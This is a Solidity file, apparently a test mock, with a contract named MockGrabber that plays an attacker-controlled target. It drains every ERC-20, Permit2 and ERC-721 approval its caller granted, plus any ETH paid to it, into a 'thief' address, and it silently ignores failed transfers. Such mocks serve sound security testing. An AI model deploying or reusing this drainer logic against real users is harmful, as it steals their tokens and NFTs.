// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";

interface IPermit2Allowance {
    function allowance(address user, address token, address spender)
        external
        view
        returns (uint160 amount, uint48 expiration, uint48 nonce);
    function transferFrom(address from, address to, uint160 amount, address token) external;
}

/// @title MockGrabber
/// @notice A permitted target that serves its deployer (the attacker): whatever its caller
///         passes, it takes from its caller every token of its own choosing that it can reach,
///         through any ERC-20 allowance, Permit2 allowance, ERC-721 approval or operator right
///         the caller gave it, and sends it to `thief`. It never reverts for what it cannot take.
///         It also forwards any ETH it is paid (`deposit`) to `thief`. It is honest about one
///         thing only: it takes from `msg.sender`, never from a third party.
contract MockGrabber {
    address public constant PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    address public immutable thief;
    address[] public tokens;
    IERC721 public immutable nft;
    uint256[] public nftIds;

    constructor(address thief_, address[] memory tokens_, IERC721 nft_, uint256[] memory ids) {
        thief = thief_;
        tokens = tokens_;
        nft = nft_;
        nftIds = ids;
    }

    function addNftId(uint256 id) external {
        nftIds.push(id);
    }

    /// @notice Takes everything it can from the caller. Returns how many transfers succeeded.
    function grab() external returns (uint256 taken) {
        address from = msg.sender;
        for (uint256 i; i < tokens.length; ++i) {
            IERC20 token = IERC20(tokens[i]);
            uint256 amount = _min(token.allowance(from, address(this)), token.balanceOf(from));
            if (amount != 0) {
                try token.transferFrom(from, thief, amount) returns (bool ok) {
                    if (ok) ++taken;
                } catch {}
            }
            if (PERMIT2.code.length != 0) {
                (uint160 p2,,) =
                    IPermit2Allowance(PERMIT2).allowance(from, address(token), address(this));
                amount = _min(p2, token.balanceOf(from));
                if (amount != 0) {
                    try IPermit2Allowance(PERMIT2)
                        .transferFrom(from, thief, uint160(amount), address(token)) {
                        ++taken;
                    } catch {}
                }
            }
        }
        for (uint256 i; i < nftIds.length; ++i) {
            try nft.transferFrom(from, thief, nftIds[i]) {
                ++taken;
            } catch {}
        }
    }

    /// @notice Moves NFT `id` from the caller to `to` (a marketplace's fill, without the order).
    function takeNft(IERC721 collection, uint256 id, address to) external {
        collection.transferFrom(msg.sender, to, id);
    }

    /// @notice Pays whatever ETH it receives to the thief.
    function deposit() external payable {
        (bool ok,) = thief.call{value: msg.value}("");
        require(ok, "MockGrabber: ETH forward failed");
    }

    function _min(uint256 a, uint256 b) private pure returns (uint256) {
        return a < b ? a : b;
    }
}
